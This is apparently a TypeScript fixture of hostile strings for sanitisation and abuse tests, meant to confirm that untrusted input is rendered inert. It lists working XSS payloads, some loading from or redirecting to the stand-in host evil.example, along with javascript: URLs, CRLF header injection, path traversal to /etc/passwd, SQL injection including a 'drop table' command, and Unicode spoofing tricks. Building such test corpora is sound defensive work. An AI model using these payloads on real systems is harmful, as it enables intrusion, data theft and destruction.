// Hostile text for the abuse tests: markup and script injection, attribute and element breakouts, URL
// schemes that execute, header injection, Unicode tricks (bidi overrides, zero-width, homoglyphs, NUL, lone
// surrogates) and enormous strings. Each is untrusted input that must come out inert wherever it is shown.

export const MARKUP_ATTACKS = [
  `<script>alert("wd-xss")</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `" onmouseover="alert(1)`,
  `' onfocus='alert(1)' autofocus='`,
  `" style="background:url(javascript:alert(1))`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `</noscript><img src=x onerror=alert(1)>`,
  `<!--<script>alert(1)//-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<a href="javascript:alert(1)">click me</a>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>Go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)"`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
  `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  `＜script＞alert(1)＜/script＞`,
];

export const URL_ATTACKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(document.cookie)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "&#106;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/",
  "https://evil.example/\"><script>alert(1)</script>",
  "https://example.com/a?x=\"><img src=x onerror=alert(1)>",
];

export const UNICODE_TRICKS = [
  "\u202Egnp.exe",
  "\u202Dleft\u202Eright\u202C",
  "pay\u200Bpal",
  "\u200D\u200C\uFEFF\u2060",
  "\u0430pple.com",
  "ℊ𝑜𝑜ℊ𝓁ℯ",
  "a\u0000b",
  "\u0000",
  "\uD800",
  "x\uDFFFy",
  "\uDBFF\uDBFF",
  "\u0007\u001b[31mred\u001b[0m",
  "\u2028\u2029",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "🇯🇵👩‍👩‍👧 日本語 العربية",
];

export const OTHER_ATTACKS = [
  "\r\nBcc: victim@example.com",
  "x\r\nSet-Cookie: a=b",
  "../../../../etc/passwd",
  "..%2F..%2F..%2Fetc%2Fpasswd",
  "' OR 1=1 --",
  "'; drop table subscribers; --",
  "__proto__",
  "constructor",
  "toString",
  "%00",
  "%",
  "%zz",
  "",
  " ",
];

export const ENORMOUS = ["A".repeat(100_000), "<".repeat(20_000), "😀".repeat(5_000), `${"x".repeat(3_000)}<script>alert(1)</script>`];

/** Everything above but the enormous strings (those are tried on their own, they trip body limits). */
export const HOSTILE_STRINGS = [...MARKUP_ATTACKS, ...URL_ATTACKS, ...UNICODE_TRICKS, ...OTHER_ATTACKS];
